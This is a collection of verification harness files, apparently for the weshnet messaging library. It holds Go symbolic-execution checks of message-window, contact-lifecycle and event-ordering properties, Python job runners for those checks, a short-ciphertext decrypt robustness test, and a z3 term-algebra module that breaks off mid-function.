	nOpened := uint64(0)
	for a := 0; a < arrivals; a++ {
		if a == rereg {
			verif_assert(rcv.RegisterChainKey(ctx, g, sndMD.Device(), enc) == nil, "C02: re-registration is accepted silently")
			verif_assert(rcv.RegisterChainKey(ctx, g, sndMD.Device(), old) == nil, "C02: an older announcement is accepted silently")
		}
		i := verif_anyInt("arrival")
		verif_assume(i >= 0 && i < total)
		k := uint64(i + 1) // counter of message i
		e, h, err := rcv.OpenEnvelopeHeaders(envs[i], g)
		verif_assert(err == nil && h.Counter == k, "C02: headers open and carry the sender's counter")
		if err != nil {
			return
		}
		msg, err := rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), verif_cidN(i))
		want := opened[i] || (c < k && k <= c+uint64(window)+nOpened)
		if want {
			verif_assert(err == nil, "C02: message inside the window (or already opened) opens")
		} else {
			verif_assert(err != nil, "C02: message outside the window / sealed before registration does not open")
		}
		if err == nil {
			verif_assert(verif_bytesEq(msg.Plaintext, plains[i]), "C02: every successful open returns the original payload")
			if !opened[i] {
				opened[i] = true
				nOpened++
			}
		}
	}
	verif_reach("C02.bounded.ok")
}

// VerifC02TwoSenders: two sender devices (of two members) in one group, both registered at the receiver at counter 0; each
// seals n messages; `arrivals` arrivals are each a FREE choice among the 2n envelopes. The window formula holds per
// sender: the state kept for one sender is not disturbed by the other's messages, and each message opens to its payload.
func VerifC02TwoSenders(window, n, arrivals int) {
	ctx := verif_background()
	s1 := verifNewStore("snd1", window)
	s2 := verifNewStore("snd2", window)
	rcv := verifNewStore("rcv", window)
	g := verifGroup(s1, rcv, 3)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	_, rcvMD := verifLink(ctx, s1, rcv, g)
	verifLink(ctx, s2, rcv, g)
	snds := []*secretStore{s1, s2}
	total := 2 * n
	envs := make([][]byte, total)
	plains := make([][]byte, total)
	for i := 0; i < total; i++ {
		plains[i] = verif_anyBytesNonNil("plain")
		pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: plains[i]})
		e, err := snds[i%2].SealEnvelope(ctx, g, pay) // sender i%2, its counter is i/2+1
		verif_assume(err == nil)
		envs[i] = e
	}
	opened := make([]bool, total)
	var nOpened [2]uint64
	for a := 0; a < arrivals; a++ {
		i := verif_anyInt("arrival")
		verif_assume(i >= 0 && i < total)
		who := i % 2
		k := uint64(i/2 + 1)
		e, h, err := rcv.OpenEnvelopeHeaders(envs[i], g)
		verif_assert(err == nil && h.Counter == k, "C02.two: headers open and carry the sender's counter")
		if err != nil {
			return
		}
		msg, err := rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), verif_cidN(i))
		want := opened[i] || k <= uint64(window)+nOpened[who]
		if want {
			verif_assert(err == nil, "C02.two: a message inside its sender's window (or already opened) opens, whatever the other sender did")
		} else {
			verif_assert(err != nil, "C02.two: a message outside its sender's window does not open")
		}
		if err == nil {
			verif_assert(verif_bytesEq(msg.Plaintext, plains[i]), "C02.two: every successful open returns the original payload")
			if !opened[i] {
				opened[i] = true
				nOpened[who]++
			}
		}
	}
	verif_reach("C02.two.ok")
}

func VerifC02Witness() {
	ctx := verif_background()
	snd := verifNewStore("snd", 1)
	rcv := verifNewStore("rcv", 1)
	g := verifGroup(snd, rcv, 3)
	gpk, _ := g.GetPubKey()
	sndMD, rcvMD := verifLink(ctx, snd, rcv, g)
	_ = sndMD
	pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: verif_anyBytesNonNil("p")})
	e1, _ := snd.SealEnvelope(ctx, g, pay)
	e2, _ := snd.SealEnvelope(ctx, g, pay)
	_ = e1
	e, h, err := rcv.OpenEnvelopeHeaders(e2, g)
	verif_assume(err == nil)
	_, err = rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), verif_cidN(1))
	if err != nil { // counter 2 with window 1 and nothing opened: refused
		verif_assert(false, "C02.witness: reachable")
	}
}
