#!/usr/bin/env python3
"""C04: group state depends only on the set of log entries (order independence, idempotence, latest wins)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
import c03


def main():
    t = tier()
    chk = c03.root_check('C04', ['root/zz_verif_rand.go', 'C07/zz_verif_c07.go', 'C04/zz_verif_c04.go'])
    P = MOD + '.'
    chk.load([P + 'VerifC04Converge', P + 'VerifC04Devices', P + 'VerifC04Alias', P + 'VerifC04Witness'])
    cfg = {'timeout_ms': 60000, 'unwind': 12}
    steps = (2, 3)  # histories of 4 operations did not finish within an hour
    jobs = []
    for fam in (0, 1, 2):
        for s in steps:
            if fam == 0 and s == 3:  # ~35 CPU-minutes: not registered
                continue
            jobs.append(Job(P + 'VerifC04Converge', (fam, s, 0), cfg=cfg, max_paths=300000))
            if s <= 2:
                jobs.append(Job(P + 'VerifC04Converge', (fam, s, 1), cfg=cfg, max_paths=300000))
    for (s_, inc, sec, K) in ([(2, 1, 0, 4), (3, 0, 0, 2)] if t == 'quick' else [(2, 1, 0, 4), (3, 0, 0, 2)]):
        for i in range(K):
            jobs.append(Job(P + 'VerifC04Devices', (s_, inc, sec), cfg=cfg, max_paths=300000, shard=(i, K), label='VerifC04Devices(%d,%d,%d)#%d/%d' % (s_, inc, sec, i, K)))
    for (st, K) in ([(2, 1)] if t == 'quick' else [(2, 1), (3, 6)]):
        for i in range(K):
            jobs.append(Job(P + 'VerifC04Alias', (st,), cfg=cfg, max_paths=300000, shard=(i, K) if K > 1 else None, label='VerifC04Alias(%d)#%d/%d' % (st, i, K)))
    jobs.append(Job(P + 'VerifC04Witness', (), witness=True, cfg=cfg))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Symbolic execution of UpdateIndex and every handler it dispatches to (contacts, groups, contact-request switch and seed) '
                       'on histories written by the real MetadataStore operations: each step is a free choice inside an operation family; a second '
                       'index receives the same entry set under a FREE arrival order (log contract: GetEntries() = arrival order, Values() = the '
                       'deterministic ipfs-log order). Checked: equal observations on both replicas, latest-event-per-subject wins against a '
                       'reference fold, idempotence of re-indexing.',
           bounds={'history_length': list(steps), 'families': 'contact lifecycle / request switch+seed / group join-leave', 'alias': 'contact group: announce / send alias key on both sides, 2 (3) operations in a free interleaving; one-pass, two-batch and re-indexed replicas', 'devices': 'multi-member group: 3 devices (2 of one member) announcing + chain key sent to 2 members, 2..3 operations in free order', 'arrival_orders': 'all permutations',
                   'outside': 'go-ipfs-log / go-orbit-db replication, heads exchange and reopen themselves (they appear only through the two accessors of the log contract); causally unordered concurrent writes other than through partial views'},
           assumptions=['log contract: Values() is a function of the entry set extending causal order; GetEntries() is arrival order (confirmed on go-ipfs-log: Join inserts a batch in BFS-from-heads order)'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
