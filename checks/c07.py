#!/usr/bin/env python3
"""C07: contacts follow the documented lifecycle; illegal transitions are refused."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
import c03


def main():
    t = tier()
    chk = c03.root_check('C07', ['root/zz_verif_rand.go', 'C07/zz_verif_c07.go'])
    P = MOD + '.'
    chk.load([P + n for n in ('VerifC07Guards', 'VerifC07Args', 'VerifC07Sequence', 'VerifC07Witness')])
    cfg = {'timeout_ms': 60000, 'unwind': 12}
    jobs = []
    for op in range(7):
        for st in range(7):
            jobs.append(Job(P + 'VerifC07Guards', (op, st), cfg=cfg))
    for c in range(7):
        jobs.append(Job(P + 'VerifC07Args', (c,), cfg=cfg))
    for first in range(7):
        jobs.append(Job(P + 'VerifC07Sequence', (2, first, 0), cfg=cfg, max_paths=200000))
        jobs.append(Job(P + 'VerifC07Sequence', (3, first, 1), cfg=cfg, max_paths=400000))
        # deeper bounds (length 4 on one contact; length 3 on two contacts with free metadata) did not finish within 45 minutes on
        # 16 cores and are not registered: the thorough tier runs the same grid as the quick tier
    jobs.append(Job(P + 'VerifC07Witness', (), witness=True, cfg=cfg))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Symbolic execution of the seven MetadataStore contact operations (guards, contactAction, attributeSignAndAddEvent, '
                       'metadataStoreAddEvent, sealGroupEnvelope), ShareableContact.CheckFormat/IsSamePK, and the index (UpdateIndex and the nine '
                       'handleContact* handlers, registerContactFromGroupPK, getContact) over the BaseStore/log contract (AddOperation = append + '
                       'real UpdateIndex). (a) every (state, operation) pair from an injected arbitrary record against the reference table of '
                       'DESIGN appendix A, incl. the appended event as any replica reads it; (b) argument rules with FREE seed/key bytes; '
                       '(c) sequences where each step is a free choice among the seven operations on two contacts, compared step by step with '
                       'the reference lifecycle (state, seed, metadata), then a fresh index replaying the same log.',
           bounds={'state_x_operation': '7 x 7 (any history: the record is injected)', 'sequence_length': '2 (two contacts, free metadata) and 3 (one contact, metadata absent/present)' if t == 'quick' else 'up to 3 with two contacts, up to 4 with one', 'contacts': 2,
                   'outside': 'longer sequences; replication of the log itself (the replica is given the same log object)'},
           assumptions=['contact keys are arbitrary distinct honest keys (atoms)', 'BaseStore.AddOperation appends and re-indexes (contract)',
                        'the log presents locally written entries in append order'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
