package weshnet

import (
	"github.com/libp2p/go-libp2p/core/crypto"

	"berty.tech/weshnet/v2/pkg/errcode"
	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

const (
	vUndef     = protocoltypes.ContactState_ContactStateUndefined
	vToRequest = protocoltypes.ContactState_ContactStateToRequest
	vReceived  = protocoltypes.ContactState_ContactStateReceived
	vAdded     = protocoltypes.ContactState_ContactStateAdded
	vRemoved   = protocoltypes.ContactState_ContactStateRemoved
	vDiscarded = protocoltypes.ContactState_ContactStateDiscarded
	vBlocked   = protocoltypes.ContactState_ContactStateBlocked
)

// operations: 0 Enqueue 1 MarkSent 2 IncomingReceived 3 Discard 4 Accept 5 Block 6 Unblock
// verifC07Ref is the documented lifecycle (DESIGN.md appendix A): (new state, event type appended, error code) --
// error code 0 means "one event appended".
func verifC07Ref(op int, st protocoltypes.ContactState) (protocoltypes.ContactState, protocoltypes.EventType, errcode.ErrCode) {
	const (
		evEnq  = protocoltypes.EventType_EventTypeAccountContactRequestOutgoingEnqueued
		evSent = protocoltypes.EventType_EventTypeAccountContactRequestOutgoingSent
		evRecv = protocoltypes.EventType_EventTypeAccountContactRequestIncomingReceived
		evDisc = protocoltypes.EventType_EventTypeAccountContactRequestIncomingDiscarded
		evAcc  = protocoltypes.EventType_EventTypeAccountContactRequestIncomingAccepted
		evBlk  = protocoltypes.EventType_EventTypeAccountContactBlocked
		evUnb  = protocoltypes.EventType_EventTypeAccountContactUnblocked
	)
	switch op {
	case 0:
		switch st {
		case vUndef, vToRequest, vBlocked:
			return vToRequest, evEnq, 0
		case vReceived, vRemoved, vDiscarded:
			return vAdded, evSent, 0
		case vAdded:
			return st, 0, errcode.ErrCode_ErrContactRequestContactAlreadyAdded
		}
	case 1:
		switch st {
		case vToRequest, vReceived, vRemoved, vDiscarded:
			return vAdded, evSent, 0
		case vUndef:
			return st, 0, errcode.ErrCode_ErrContactRequestContactUndefined
		case vAdded:
			return st, 0, errcode.ErrCode_ErrContactRequestContactAlreadyAdded
		case vBlocked:
			return st, 0, errcode.ErrCode_ErrContactRequestContactBlocked
		}
	case 2:
		switch st {
		case vUndef, vRemoved, vDiscarded:
			return vReceived, evRecv, 0
		case vToRequest:
			return vAdded, evSent, 0
		case vReceived:
			return st, 0, errcode.ErrCode_ErrContactRequestIncomingAlreadyReceived
		case vAdded:
			return st, 0, errcode.ErrCode_ErrContactRequestContactAlreadyAdded
		case vBlocked:
			return st, 0, errcode.ErrCode_ErrContactRequestContactBlocked
		}
	case 3:
		if st == vReceived {
			return vDiscarded, evDisc, 0
		}
		return st, 0, errcode.ErrCode_ErrInvalidInput
	case 4:
		if st == vReceived {
			return vAdded, evAcc, 0
		}
		return st, 0, errcode.ErrCode_ErrInvalidInput
	case 5:
		if st == vBlocked {
			return st, 0, errcode.ErrCode_ErrInvalidInput
		}
		return vBlocked, evBlk, 0
	case 6:
		if st == vBlocked {
			return vRemoved, evUnb, 0
		}
		return st, 0, errcode.ErrCode_ErrInvalidInput
	}
	return st, 0, errcode.ErrCode_ErrInvalidInput
}

func verifC07Do(m *MetadataStore, op int, pk crypto.PubKey, raw, seed, meta []byte) error {
	ctx := verif_background()
	var err error
	switch op {
	case 0:
		_, err = m.ContactRequestOutgoingEnqueue(ctx, &protocoltypes.ShareableContact{Pk: raw, PublicRendezvousSeed: seed, Metadata: meta}, []byte("own"))
	case 1:
		_, err = m.ContactRequestOutgoingSent(ctx, pk)
	case 2:
		_, err = m.ContactRequestIncomingReceived(ctx, &protocoltypes.ShareableContact{Pk: raw, PublicRendezvousSeed: seed, Metadata: meta})
	case 3:
		_, err = m.ContactRequestIncomingDiscard(ctx, pk)
	case 4:
		_, err = m.ContactRequestIncomingAccept(ctx, pk)
	case 5:
		_, err = m.ContactBlock(ctx, pk)
	default:
		_, err = m.ContactUnblock(ctx, pk)
	}
	return err
}

func verifC07State(m *MetadataStore, pk crypto.PubKey) protocoltypes.ContactState {
	return m.getContactStatus(pk)
}

// VerifC07Guards: the index holds an ARBITRARY record for contact p (absent or any of the six states, injected directly),
// one operation is applied: it either fails with the documented error and appends nothing, or appends exactly one event of
// the documented type that carries p and the own device key and is correctly signed.
func VerifC07Guards(op int, stn int32) {
	st := protocoltypes.ContactState(stn)
	m, _ := verifAccountStore("acct")
	_, pk := verifFreshKey()
	raw, _ := pk.Raw()
	idx := m.Index().(*metadataStoreIndex)
	if st != vUndef {
		idx.contacts[string(raw)] = &AccountContact{state: st, contact: &protocoltypes.ShareableContact{Pk: raw}}
	}
	seed := make([]byte, 32)
	_, _ = verifRandRoot(seed)
	before := verif_appended()
	err := verifC07Do(m, op, pk, raw, seed, []byte("meta"))
	wantState, wantEv, wantErr := verifC07Ref(op, st)
	if wantErr != 0 {
		verif_assert(err != nil, "C07.guard: operation not allowed in this state is refused")
		verif_assert(verif_appended() == before, "C07.guard: a refused operation appends nothing")
		if err != nil {
			verif_assert(errcode.Is(err, wantErr), "C07.guard: refusal carries the documented error")
		}
		return
	}
	verif_assert(err == nil, "C07.guard: allowed operation succeeds")
	verif_assert(verif_appended() == before+1, "C07.guard: exactly one event is appended")
	if err != nil || verif_appended() != before+1 {
		return
	}
	// the appended event, as any replica will read it
	ents := verif_storeLog(&m.BaseStore).GetEntries().Slice()
	me, ev, err := openMetadataEntry(verif_storeLog(&m.BaseStore), ents[len(ents)-1], m.group)
	verif_assert(err == nil, "C07.guard: appended event is correctly signed and opens")
	if err != nil {
		return
	}
	verif_assert(me.Metadata.EventType == wantEv, "C07.guard: event type is the documented one")
	named, ok := ev.(verifContactNamed)
	if ok {
		verif_assert(verif_bytesEq(named.GetContactPk(), raw), "C07.guard: event carries the contact key")
	} else {
		enq, ok := ev.(*protocoltypes.AccountContactRequestOutgoingEnqueued)
		verif_assert(ok && enq.Contact != nil && verif_bytesEq(enq.Contact.Pk, raw), "C07.guard: enqueue event carries the contact")
	}
	dn, ok := ev.(verifDevNamed7)
	verif_assert(ok && verif_bytesEq(dn.GetDevicePk(), m.devicePublicKeyRaw), "C07.guard: event carries the own device key")
	// after re-indexing the log (which now holds only this event) the state is the documented successor
	verif_assert(verifC07State(m, pk) == wantState, "C07.guard: resulting state is the documented one")
	verif_reach("C07.guard.ok")
}

type verifContactNamed interface{ GetContactPk() []byte }
type verifDevNamed7 interface{ GetDevicePk() []byte }

// VerifC07Args: argument rules -- own key, missing/short seed, malformed or missing key.
func VerifC07Args(caseN int) {
	m, ss := verifAccountStore("acct")
	ctx := verif_background()
	ownSK, err := ss.GetAccountPrivateKey()
	verif_assume(err == nil)
	ownRaw, _ := ownSK.GetPublic().Raw()
	_, pk := verifFreshKey()
	raw, _ := pk.Raw()
	seed := make([]byte, 32)
	_, _ = verifRandRoot(seed)
	before := verif_appended()
	switch caseN {
	case 0:
		_, err = m.ContactRequestOutgoingEnqueue(ctx, &protocoltypes.ShareableContact{Pk: ownRaw, PublicRendezvousSeed: seed}, nil)
		verif_assert(err != nil && errcode.Is(err, errcode.ErrCode_ErrContactRequestSameAccount), "C07.args: an account cannot request itself")
	case 1:
		_, err = m.ContactRequestIncomingReceived(ctx, &protocoltypes.ShareableContact{Pk: ownRaw, PublicRendezvousSeed: seed})
		verif_assert(err != nil && errcode.Is(err, errcode.ErrCode_ErrContactRequestSameAccount), "C07.args: an account cannot receive a request from itself")
	case 2:
		_, err = m.ContactBlock(ctx, ownSK.GetPublic())
		verif_assert(err != nil, "C07.args: an account cannot block itself")
	case 3: // arbitrary seed: accepted iff exactly 32 bytes
		s := verif_anyBytes("seed")
		_, err = m.ContactRequestOutgoingEnqueue(ctx, &protocoltypes.ShareableContact{Pk: raw, PublicRendezvousSeed: s}, nil)
		verif_assert((err == nil) == (len(s) == 32), "C07.args: enqueue requires a 32-byte rendezvous seed")
	case 4: // incoming: seed may be missing but not of another length
		s := verif_anyBytes("seed")
		_, err = m.ContactRequestIncomingReceived(ctx, &protocoltypes.ShareableContact{Pk: raw, PublicRendezvousSeed: s})
		verif_assert((err == nil) == (len(s) == 32 || len(s) == 0), "C07.args: incoming request allows a missing seed only")
	case 5: // arbitrary key bytes: accepted iff a well-formed 32-byte key that is not the own key
		k := verif_anyBytes("key")
		_, err = m.ContactRequestOutgoingEnqueue(ctx, &protocoltypes.ShareableContact{Pk: k, PublicRendezvousSeed: seed}, nil)
		verif_assert((err == nil) == (len(k) == 32 && !verif_bytesEq(k, ownRaw)), "C07.args: enqueue requires a well-formed contact key other than the own key")
	default:
		_, err = m.ContactRequestOutgoingSent(ctx, nil)
		verif_assert(err != nil, "C07.args: a nil key reads as an undefined contact")
		_, err = m.ContactRequestIncomingAccept(ctx, nil)
		verif_assert(err != nil, "C07.args: accept of a nil key refused")
		_, err = m.ContactUnblock(ctx, nil)
		verif_assert(err != nil, "C07.args: unblock of a nil key refused")
	}
	if err != nil {
		verif_assert(verif_appended() == before, "C07.args: a refused operation appends nothing")
	}
	verif_reach("C07.args.ok")
}

// VerifC07Sequence: L operations, each a FREE choice among the seven, on contact p (and one interleaved on q), from the
// empty log; after each step state, seed and metadata equal the reference lifecycle; finally a fresh index replaying
// the same log (another replica / reopen) reports the same contacts.
func VerifC07Sequence(steps, firstOp, lean int) {
	m, ss := verifAccountStore("acct")
	_, pk := verifFreshKey()
	raw, _ := pk.Raw()
	_, qk := verifFreshKey()
	qraw, _ := qk.Raw()
	st := vUndef
	qst := vUndef
	var seed, meta []byte
	for i := 0; i < steps; i++ {
		op := verif_anyInt("op")
		verif_assume(op >= 0 && op <= 6)
		if i == 0 && firstOp >= 0 {
			verif_assume(op == firstOp) // job split: the first operation is fixed per job, all seven jobs are run
		}
		onQ := false
		var md []byte
		if lean == 0 {
			onQ = verif_anyBool("onQ")
			md = verif_anyBytes("meta")
		} else if verif_anyBool("with-metadata") {
			// lean variant for longer sequences: one contact, metadata either absent or some fixed non-empty bytes
			md = []byte("metadata")
		}
		s := make([]byte, 32)
		_, _ = verifRandRoot(s)
		if onQ {
			err := verifC07Do(m, op, qk, qraw, s, md)
			ns, _, we := verifC07Ref(op, qst)
			verif_assert((err == nil) == (we == 0), "C07.seq: second contact follows the lifecycle too")
			if err == nil {
				qst = ns
			}
			verif_assert(verifC07State(m, qk) == qst && verifC07State(m, pk) == st, "C07.seq: operations on one contact do not disturb the other")
			continue
		}
		before := verif_appended()
		err := verifC07Do(m, op, pk, raw, s, md)
		ns, ev, we := verifC07Ref(op, st)
		verif_assert((err == nil) == (we == 0), "C07.seq: allowed exactly when the lifecycle allows it")
		if lean == 1 && err != nil && i < steps-1 {
			// a refused operation appends nothing (asserted here and in VerifC07Guards), so the remainder of this sequence
			// is a shorter sequence from the same log: covered by the jobs of that length
			verif_assert(verif_appended() == before, "C07.seq: a refused operation appends nothing")
			verif_assert(verifC07State(m, pk) == st, "C07.seq: reported state equals the reference lifecycle")
			verif_reach("C07.seq.pruned")
			return
		}
		if err == nil {
			st = ns
			if ev == protocoltypes.EventType_EventTypeAccountContactRequestOutgoingEnqueued || ev == protocoltypes.EventType_EventTypeAccountContactRequestIncomingReceived {
				seed = s
				if len(md) != 0 { // protobuf carries no empty-vs-absent distinction: 'some metadata' = non-empty
					meta = md
				}
			}
		}
		verif_assert(verifC07State(m, pk) == st, "C07.seq: reported state equals the reference lifecycle")
		if st != vUndef {
			c := m.Index().(*metadataStoreIndex).contacts[string(raw)]
			verif_assert(c != nil && verif_bytesEq(c.contact.Pk, raw), "C07.seq: record designates the contact")
			if c != nil {
				verif_assert(verif_bytesEq(c.contact.PublicRendezvousSeed, seed), "C07.seq: seed is that of the newest request event carrying one")
				verif_assert(verif_bytesEq(c.contact.Metadata, meta), "C07.seq: metadata is that of the newest request event carrying some")
			}
		}
	}
	// a replica that replays the same log
	replica := newMetadataIndex(verif_background(), m.group, m.memberDevice, ss)(m.group.PublicKey).(*metadataStoreIndex)
	verif_assert(replica.UpdateIndex(verif_storeLog(&m.BaseStore), nil) == nil, "C07.seq: replica indexes the log")
	own := m.Index().(*metadataStoreIndex)
	verif_assert(len(replica.contacts) == len(own.contacts), "C07.seq: replica knows the same contacts")
	for _, k := range [][]byte{raw, qraw} {
		a, b := own.contacts[string(k)], replica.contacts[string(k)]
		verif_assert((a == nil) == (b == nil), "C07.seq: replica knows the same contacts")
		if a != nil && b != nil {
			verif_assert(a.state == b.state && verif_bytesEq(a.contact.PublicRendezvousSeed, b.contact.PublicRendezvousSeed) && verif_bytesEq(a.contact.Metadata, b.contact.Metadata), "C07.seq: replica reports the same state, seed and metadata")
		}
	}
	if st != vUndef {
		g, err := ss.GetGroupForContact(pk)
		verif_assume(err == nil)
		c := m.GetContactFromGroupPK(g.PublicKey)
		verif_assert(c != nil && verif_bytesEq(c.Pk, raw), "C07.seq: the contact is found by its contact-group key")
	}
	verif_reach("C07.seq.ok")
}

func VerifC07Witness() {
	m, _ := verifAccountStore("acct")
	_, pk := verifFreshKey()
	raw, _ := pk.Raw()
	s := make([]byte, 32)
	_, _ = verifRandRoot(s)
	if verifC07Do(m, 0, pk, raw, s, nil) == nil && verifC07Do(m, 5, pk, raw, s, nil) == nil && verifC07State(m, pk) == vBlocked {
		verif_assert(false, "C07.witness: reachable")
	}
}
