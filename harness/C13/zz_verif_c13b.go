package weshnet

import (
	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

// VerifC13Source: ListEvents of a store whose log holds n causally ordered events that ARRIVED in a free order must
// deliver them in log order (oldest first), or exactly reversed, whatever the arrival order.
func VerifC13Source(n int) {
	ctx := verif_background()
	m, _ := verifAccountStore("acct")
	for i := 0; i < n; i++ {
		var err error
		if i%2 == 0 {
			_, err = m.ContactRequestEnable(ctx)
		} else {
			_, err = m.ContactRequestDisable(ctx)
		}
		verif_assume(err == nil)
	}
	log := verif_storeLog(&m.BaseStore)
	canon := log.Values().Slice()
	verif_assume(len(canon) == n)
	verif_logPermute(log)
	reverse := verif_anyBool("reverse")
	ch, err := m.ListEvents(ctx, nil, nil, reverse)
	verif_assert(err == nil, "C13.source: listing succeeds")
	if err != nil {
		return
	}
	var got []*protocoltypes.GroupMetadataEvent
	for ev := range ch {
		got = append(got, ev)
	}
	verif_assert(len(got) == n, "C13.source: every event is listed once")
	if len(got) != n {
		return
	}
	for i := 0; i < n; i++ {
		want := canon[i]
		if reverse {
			want = canon[n-1-i]
		}
		verif_assert(verif_bytesEq(got[i].EventContext.Id, want.GetHash().Bytes()), "C13.source: listing follows log order (oldest first, or exactly reversed), not arrival order")
	}
	verif_reach("C13.source.ok")
}

// VerifC13MsgSource: the same for MessageStore.ListEvents: n messages of one sender whose key is known, log entries that
// ARRIVED in a free order, listed oldest first or exactly reversed, each with its original payload.
func VerifC13MsgSource(n int) {
	w := c08Setup(n)
	verif_assume(w.rcv.RegisterChainKey(w.ctx, w.g, w.sndDev, w.enc) == nil)
	canon := w.log.Values().Slice()
	verif_assume(len(canon) == n)
	// the store has processed its log (the consumer loop opens every message once, in counter order for one sender, and
	// the message keys are then found by entry id): a listing re-opens them in whatever order it is asked for
	for _, e := range canon {
		_, err := w.store.openMessage(w.ctx, e)
		verif_assume(err == nil)
	}
	verif_logPermute(w.log)
	reverse := verif_anyBool("reverse")
	ch, err := w.store.ListEvents(w.ctx, nil, nil, reverse)
	verif_assert(err == nil, "C13.msgsource: listing succeeds")
	if err != nil {
		return
	}
	var got []*protocoltypes.GroupMessageEvent
	for ev := range ch {
		got = append(got, ev)
	}
	verif_assert(len(got) == n, "C13.msgsource: every message is listed once")
	if len(got) != n {
		return
	}
	for i := 0; i < n; i++ {
		k := i
		if reverse {
			k = n - 1 - i
		}
		verif_assert(verif_bytesEq(got[i].EventContext.Id, canon[k].GetHash().Bytes()), "C13.msgsource: listing follows log order (oldest first, or exactly reversed), not arrival order")
		verif_assert(verif_bytesEq(got[i].Message, w.plain[k]), "C13.msgsource: a listed message carries its original payload")
	}
	verif_reach("C13.msgsource.ok")
}
