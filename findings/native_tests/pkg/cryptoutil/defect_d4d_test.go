package cryptoutil

import (
	"testing"
)

func TestD4d_AESGCMDecryptShortCiphertext(t *testing.T) {
	key := make([]byte, 32)
	for _, n := range []int{0, 1, 11, 12, 13, 27, 28} {
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Errorf("DEFECT AESGCMDecrypt(len=%d): PANIC: %v", n, r)
				}
			}()
			_, err := AESGCMDecrypt(key, make([]byte, n))
			t.Logf("AESGCMDecrypt(len=%d): no panic, err=%v", n, err)
		}()
	}
}
