"""Free term algebra for opaque byte strings (DESIGN 2.3, Appendix C).

One recursive SMT datatype:
    Term  = atom(id) | bits(n, bv512) | lit(id) | app(f, args)
    TList = tnil | tcons(hd, tl)
`app(f, args)` is a free (injective, pairwise disjoint) constructor for every function id f,
so cryptographic operations, encoders and protobuf messages are all free constructors.
`blen : Term -> Int` and `byteAt : Term x Int -> BV8` are uninterpreted, with ground facts
emitted for each term built by the interpreter.
"""
import z3

BW = 512  # payload width of `bits` (64 bytes: the longest symbolic vector that can be packed)

Term = z3.Datatype('Term')
TList = z3.Datatype('TList')
Term.declare('atom', ('atom_id', z3.IntSort()))
Term.declare('bits', ('bits_len', z3.IntSort()), ('bits_val', z3.BitVecSort(BW)))
Term.declare('lit', ('lit_id', z3.IntSort()))
Term.declare('num', ('num_val', z3.IntSort()))
Term.declare('app', ('app_f', z3.IntSort()), ('app_args', TList))
TList.declare('tnil')
TList.declare('tcons', ('hd', Term), ('tl', TList))
Term, TList = z3.CreateDatatypes(Term, TList)

blen = z3.Function('blen', Term, z3.IntSort())
byteAt = z3.Function('byteAt', Term, z3.IntSort(), z3.BitVecSort(8))

# function ids
_FIDS = {}
_FNAMES = {}


def fid(name):
    if name not in _FIDS:
        _FIDS[name] = len(_FIDS) + 1
        _FNAMES[_FIDS[name]] = name
    return _FIDS[name]


def fname(i):
    return _FNAMES.get(i, '?%d' % i)


def tlist(args):
    l = TList.tnil
    for a in reversed(args):
        l = TList.tcons(a, l)
    return l


def app(name, *args):
    return Term.app(z3.IntVal(fid(name)), tlist(list(args)))


def is_app(t, name=None):
    """syntactic test on a z3 term; returns arg list or None"""
    if not z3.is_app(t) or t.decl().name() != 'app':
        return None
    f = t.arg(0)
    if not z3.is_int_value(f):
        return None
    if name is not None and f.as_long() != fid(name):
        return None
    args = []
    l = t.arg(1)
    while z3.is_app(l) and l.decl().name() == 'tcons':
        args.append(l.arg(0))
        l = l.arg(1)
    return args


def app_name(t):
    if z3.is_app(t) and t.decl().name() == 'app' and z3.is_int_value(t.arg(0)):
        return fname(t.arg(0).as_long())
    return None


_LITS = {}
_LITS_REV = {}


def lit_bytes(b):
    """canonical term of a concrete byte string (python bytes)"""
    n = len(b)
    if n <= BW // 8:
        v = int.from_bytes(b, 'big') << (8 * (BW // 8 - n)) if n else 0
        return Term.bits(z3.IntVal(n), z3.BitVecVal(v, BW))
    if b not in _LITS:
        _LITS[b] = len(_LITS) + 1
        _LITS_REV[_LITS[b]] = b
    return Term.lit(z3.IntVal(_LITS[b]))


def concrete_bytes(t):
    """python bytes if t is syntactically a concrete literal, else None"""
    if not z3.is_app(t):
        return None
    d = t.decl().name()
    if d == 'bits':
        n, v = t.arg(0), t.arg(1)
        if z3.is_int_value(n) and z3.is_bv_value(v):
            n = n.as_long()
            return (v.as_long() >> (8 * (BW // 8 - n))).to_bytes(n, 'big') if n else b''
    if d == 'lit' and z3.is_int_value(t.arg(0)):
        return _LITS_REV.get(t.arg(0).as_long())
    return None


def pack_bits(bvs):
    """term of a vector of 8-bit z3 values / ints (len <= 64)"""
    n = len(bvs)
    if n == 0:
        return lit_bytes(b'')
    if all(isinstance(x, int) for x in bvs):
        return lit_bytes(bytes(bvs))
    if n > BW // 8:
        raise ValueError('symbolic vector longer than %d bytes cannot be packed' % (BW // 8))
    parts = [z3.BitVecVal(x, 8) if isinstance(x, int) else x for x in bvs]
    v = z3.Concat(*parts) if len(parts) > 1 else parts[0]
    if n < BW // 8:
        v = z3.Concat(v, z3.BitVecVal(0, BW - 8 * n))
    return Term.bits(z3.IntVal(n), z3.simplify(v))


def term_str(t, depth=0):
    """human readable rendering of a (model) term"""
    if not z3.is_app(t):
        return str(t)
    d = t.decl().name()
    if d == 'atom':
        return 'atom#%s' % t.arg(0)
    if d in ('bits', 'lit'):
        b = concrete_bytes(t)
        if b is not None:
            return 'x' + b.hex() if len(b) <= 40 else 'x%s..(%d bytes)' % (b[:8].hex(), len(b))
        return str(t)
    if d == 'num':
        return 'num(%s)' % t.arg(0)
    if d == 'app':
